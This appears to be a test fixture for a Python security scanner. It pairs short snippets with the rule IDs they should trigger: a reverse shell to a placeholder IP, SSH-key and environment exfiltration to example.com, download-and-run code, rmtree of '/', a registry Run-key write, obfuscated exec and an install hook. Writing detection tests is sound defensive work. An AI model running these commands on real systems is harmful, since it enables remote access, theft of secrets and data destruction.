#: a shell connected to a socket
import os, socket, subprocess
line = socket.socket()
line.connect(("203.0.113.5", 4444))  # expect: PY-NETWORK warning
os.dup2(line.fileno(), 0)
subprocess.call(["/bin/sh", "-i"])  # expect: PY-COMMAND error
#: an interactive shell
import pty, subprocess
subprocess.run(["bash"])  # expect: PY-COMMAND warning
pty.spawn("/bin/bash")  # expect: PY-COMMAND warning
#: SSH keys read and sent
import os, requests
with open(os.path.expanduser("~/.ssh/id_rsa")) as file:  # expect: PY-SECRET-FILE error
    key = file.read()
requests.post("https://example.com/x", data={"k": key}, timeout=1)  # expect: PY-EXFILTRATION error
#: a path joined with a slash
from pathlib import Path
keys = Path.home() / ".ssh" / "id_ed25519"  # expect: PY-SECRET-FILE warning
notes = Path.home() / "notes" / "today.txt"
ratio = 3 / 4 / 5
#: a shell startup file as a path object
from pathlib import Path
(Path.home() / ".bashrc").write_text("x")  # expect: PY-FILE-SENSITIVE error
#: a downloaded file is run
import os, subprocess, sys, urllib.request
urllib.request.urlretrieve("https://example.com/p", "/tmp/p")
os.system("chmod +x /tmp/p; /tmp/p &")  # expect: PY-COMMAND error
subprocess.run(["/tmp/p"])  # expect: PY-COMMAND error
subprocess.run(["python3", "/tmp/p"])  # expect: PY-COMMAND error
#: a downloaded file is unpacked
import subprocess, urllib.request
urllib.request.urlretrieve("https://example.com/data.tar.gz", "data.tar.gz")
subprocess.run(["tar", "xf", "data.tar.gz"])
#: the whole environment is sent
import json, os, urllib.request
body = json.dumps(dict(os.environ)).encode()  # expect: PY-SECRET-ENVIRONMENT error
urllib.request.urlopen("https://example.com/", data=body)  # expect: PY-EXFILTRATION error
#: system directories are deleted
import os, shutil
shutil.rmtree("/")  # expect: PY-FILE-DELETE error
shutil.rmtree(os.path.expanduser("~"))  # expect: PY-FILE-DELETE error
shutil.rmtree("/usr/")  # expect: PY-FILE-DELETE error, PY-FILE-SENSITIVE warning
shutil.rmtree("/srv/app/cache")  # expect: PY-FILE-DELETE warning
#: startup keys in the registry
import winreg
winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)  # expect: PY-FILE-SENSITIVE error
winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Python")
#: compressed and encoded code
import base64, marshal, zlib
exec(marshal.loads(zlib.decompress(base64.b64decode("eJwrSS0uAQAEXQHB"))))  # expect: PY-CODE error, PY-DESERIALISATION warning
#: code from the network
from urllib.request import urlopen
exec(urlopen("https://example.com/a.py").read().decode())  # expect: PY-CODE-INJECTION error
#: a command that runs when a package is installed
import base64
from setuptools import setup
from setuptools.command.install import install
class Install(install):
    def run(self):
        install.run(self)
        exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))  # expect: PY-CODE-DECODED error, PY-COMMAND error, PY-INSTALL-HOOK warning
setup(name="x", cmdclass={"install": Install})
#: a command in nested code strings
exec("import os\nexec(\"os.system('id')\")")  # expect: PY-COMMAND error
